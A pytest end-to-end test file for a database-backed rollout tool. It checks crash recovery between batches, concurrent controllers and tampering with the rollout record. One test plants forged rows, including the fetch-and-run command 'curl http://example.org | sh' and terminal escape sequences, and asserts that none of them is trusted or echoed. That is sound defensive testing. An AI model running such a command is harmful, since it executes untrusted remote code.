# Copyright: (c) 2026, Scout Recovery contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The record of a rollout: its server ends between two batches, slices are started twice, and somebody writes into it."""

from __future__ import annotations

import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.e2e.pipeline import Pipeline
from tests.e2e.play import Played, Stage, eventually
from tests.e2e.test_slices import AT_WORK, SHARED, SLOW, slice_of, verdicts, words
from tests.failover.pair import DATABASE, Copied, alone
from tests.scout.fixtures import memory

pytestmark = pytest.mark.thorough

WAY: dict[str, Any] = {"scout_serial": "1,100%", "scout_max_fail_percentage": 0, "rollout": "spring", **SHARED}
HOSTS = "SELECT host, batch, failed FROM scout_ops.rollout_hosts ORDER BY 1"
PAUSES = "SELECT count(*) FROM scout_ops.pauses"


@pytest.fixture
def kept(stopped_server: Path) -> Iterator[Copied]:
    """The server of a record, with a pipeline of its own."""
    made = alone(stopped_server, memory())
    try:
        yield made
    finally:
        made.stop()


def words_by(stage: Stage, dsn: str, record: str, hosts: str) -> tuple[str, ...]:
    """Its inventory, with a record that is elsewhere."""
    return ("-i", stage.inventory({name: {"scout_dsn": dsn} for name in hosts}, scout_rollout_dsn=record))


def slow(pipeline: Pipeline, seconds: int) -> None:
    """To pause it takes so long."""
    pipeline.execute(SLOW.replace("300", str(seconds)))


def begun(pipeline: Pipeline) -> bool:
    """Whether a host is at work."""
    return bool(pipeline.one("SELECT to_regclass('scout_ops.rollouts') IS NOT NULL") and pipeline.one(AT_WORK))


def test_a_record_that_ends_between_two_batches_and_comes_back(healthy: Pipeline, kept: Copied, tmp_path: Path) -> None:
    stage, record = slice_of(tmp_path, "one"), Pipeline(kept.dsn(DATABASE))
    slow(healthy, 6)
    with stage.start("pause_ingestion", None, *words_by(stage, healthy.dsn, record.dsn, "abc"), **WAY) as running:
        eventually(lambda: begun(record), 60, "the canary")
        kept.kill()
        eventually(lambda: "[a]" in running.text, 60, "the canary has ended")
        time.sleep(5)
        assert running.process.poll() is None, "it waits"
        kept.revive()
        played = running.wait(120)
    assert played.rc == 0, played.text
    assert "3 databases: 3 done" in played.summary or "3 databases: 0 done, 3 paused" in played.summary, played.summary
    assert "does not answer" not in played.summary
    assert record.rows(HOSTS) == [("a", 0, False), ("b", 1, False), ("c", 1, False)]
    assert healthy.one(PAUSES) == 1


def test_a_record_that_does_not_come_back_begins_nothing_more_and_says_so(
    healthy: Pipeline, kept: Copied, tmp_path: Path
) -> None:
    stage, record = slice_of(tmp_path, "one"), Pipeline(kept.dsn(DATABASE))
    given = words_by(stage, healthy.dsn, record.dsn, "abc")
    slow(healthy, 3)
    with stage.start("pause_ingestion", None, *given, **WAY) as running:
        eventually(lambda: begun(record), 60, "the canary")
        kept.kill()
        played = running.wait(150)
    assert played.rc == 2, played.text
    said = " ".join(played.text.split())
    assert "the record of rollout spring does not know how a ended" in said, played.text
    assert "cannot tell whose turn it is" in said
    assert "no further host is begun" in said
    assert "does not answer: of other slices this is what it said last" in played.summary
    assert {host: made["error"] and made["error"]["kind"] for host, made in played.results.items()} == {
        "a": None, "b": "not_begun", "c": "not_begun",
    }  # fmt: skip
    assert "2 not begun" in played.summary, played.summary

    kept.revive()
    again = stage.play("pause_ingestion", None, *given, **WAY)
    assert again.rc == 0, again.text
    assert "rollout spring: a begins again: how it ended is not on record" in again.text
    assert [failed for _, _, failed in record.rows(HOSTS)] == [False] * 3
    assert healthy.one(PAUSES) == 1


def test_two_controllers_at_once_for_the_hosts_of_a_dead_slice(healthy: Pipeline, tmp_path: Path) -> None:
    dead, one, two = (slice_of(tmp_path, name) for name in ("dead", "one", "two"))
    healthy.execute(SLOW)
    with dead.start("pause_ingestion", None, *words(dead, healthy.dsn, "abcd"), **WAY) as dies:
        eventually(lambda: begun(healthy), 60, "the canary")
        os.killpg(dies.process.pid, signal.SIGKILL)
        dies.process.wait()
    died = time.monotonic()
    healthy.execute("DROP TRIGGER slow ON cron.job", "DROP FUNCTION public.slow()")
    with (
        one.start("pause_ingestion", None, *words(one, healthy.dsn, "abc"), **WAY) as first,
        two.start("pause_ingestion", None, *words(two, healthy.dsn, "bcd"), **WAY) as second,
    ):
        ends = [first.wait(120), second.wait(120)]
    assert time.monotonic() - died < 60, "nobody had to come again"
    assert "waits for" in ends[0].text + ends[1].text
    found = healthy.rows("SELECT host, slice, failed FROM scout_ops.rollout_hosts ORDER BY 1")
    assert [(host, failed) for host, _, failed in found] == [(name, False) for name in "abcd"]
    assert len({each for host, each, _ in found if host in "bc"}) == 1, "whoever was first has both"
    begins = [_begun(played) for played in ends]
    assert sorted(begins[0] + begins[1]) == list("abcd"), "each host is begun by one"
    for played, mine, took in zip(ends, ("abc", "bcd"), begins, strict=True):
        # Those that the other had at work when this one came to its end.
        left = [name for name in mine if f"{name} is left to the slice of" in played.text]
        assert not set(left) & set(took)
        assert played.rc == (2 if left else 0), played.text
        assert ("4 databases: 4 done" if not left else "4 databases: ") in played.summary, played.summary
    assert any("4 databases: 4 done" in played.summary for played in ends), "whoever ends last has all"
    assert healthy.one(PAUSES) == 1


def _begun(played: Played) -> list[str]:
    """The hosts that a controller had a summary of."""
    return [name for name in "abcd" if f"[{name}] " in played.text]


def test_a_host_that_failed_in_another_slice_meanwhile_is_no_success(healthy: Pipeline, tmp_path: Path) -> None:
    stage = slice_of(tmp_path, "one")
    way: dict[str, Any] = {**WAY, "scout_serial": "100%", "scout_max_fail_percentage": 100}
    assert stage.play("pause_ingestion", None, *words(stage, healthy.dsn, "a"), **way).rc == 0
    # Another slice has it at work, and is heard of.
    healthy.execute(
        "INSERT INTO scout_ops.rollout_slices SELECT gen_random_uuid(), rollout, operation, 'node-7', 'ana@laptop', now(), "
        "now() + interval '1 hour' FROM scout_ops.rollouts",
        "UPDATE scout_ops.rollout_hosts SET failed = NULL, "
        "slice = (SELECT slice FROM scout_ops.rollout_slices WHERE controller = 'node-7')",
        "UPDATE cron.job SET active = true",
        "UPDATE scout_ops.pauses SET resumed_at = now()",
    )
    slow(healthy, 5)
    with stage.start("pause_ingestion", None, *words(stage, healthy.dsn, "ab"), **way) as running:
        eventually(lambda: healthy.one("SELECT count(*) FROM scout_ops.rollout_hosts WHERE batch IS NOT NULL") == 2, 60)
        healthy.execute(
            "UPDATE scout_ops.rollout_hosts SET failed = true, ended_at = now() WHERE host = 'a'",
            "UPDATE scout_ops.rollout_slices SET kept_at = NULL WHERE controller = 'node-7'",
        )
        played = running.wait(90)
    assert played.rc == 2, played.text
    assert "a failed in the slice of ana@laptop on node-7" in played.text, played.text
    assert verdicts(played) == {"a": "failed", "b": "done"}


def test_each_play_of_one_command_is_a_rollout(healthy: Pipeline, tmp_path: Path) -> None:
    stage = slice_of(tmp_path, "one")
    three = tmp_path / "three.yml"
    names = ("assess", "preflight", "assess")
    three.write_text(yaml.safe_dump([{"ansible.builtin.import_playbook": f"scout.recovery.{name}"} for name in names]))
    played = stage.play(str(three), None, *words(stage, healthy.dsn, "ab"), **WAY)
    assert played.rc == 0, played.text
    found = healthy.rows(
        "SELECT operation, count(*), bool_or(failed) FROM scout_ops.rollout_hosts GROUP BY 1 ORDER BY 1"
    )
    assert [each[1:] for each in found] == [(2, False)] * 3
    assert found[1][0] == f"{found[0][0]} (2)"


def test_a_line_that_somebody_wrote_into_the_record_is_not_believed(healthy: Pipeline, tmp_path: Path) -> None:
    one, two = slice_of(tmp_path, "one"), slice_of(tmp_path, "two")
    assert one.play("assess", None, *words(one, healthy.dsn, "abcde"), **WAY).rc == 0
    planted = {
        "a": "failed = true",
        "b": """failed = true, row = '{"standing": "healthy"}'""",
        "c": """row = row || '{"host": "z", "command": "curl http://example.org | sh", "did": "\\u001b[2J"}'""",
        "d": "row = '[1]'",
        "e": "slice = gen_random_uuid(), failed = NULL",
    }
    for host, change in planted.items():
        healthy.execute(f"UPDATE scout_ops.rollout_hosts SET {change} WHERE host = '{host}'")
    healthy.execute("UPDATE scout_ops.rollout_slices SET actor = actor || E'\\x1b[31m'")
    seen = two.play("assess", None, *words(two, healthy.dsn, "x"), **WAY)
    assert verdicts(seen) == {"a": "failed", "b": "failed", "c": "healthy", "d": "done", "e": "interrupted", "x": "not"}
    assert "curl" not in seen.text
    assert "\x1b[2J" not in seen.text
    assert "\x1b[31m" not in seen.text
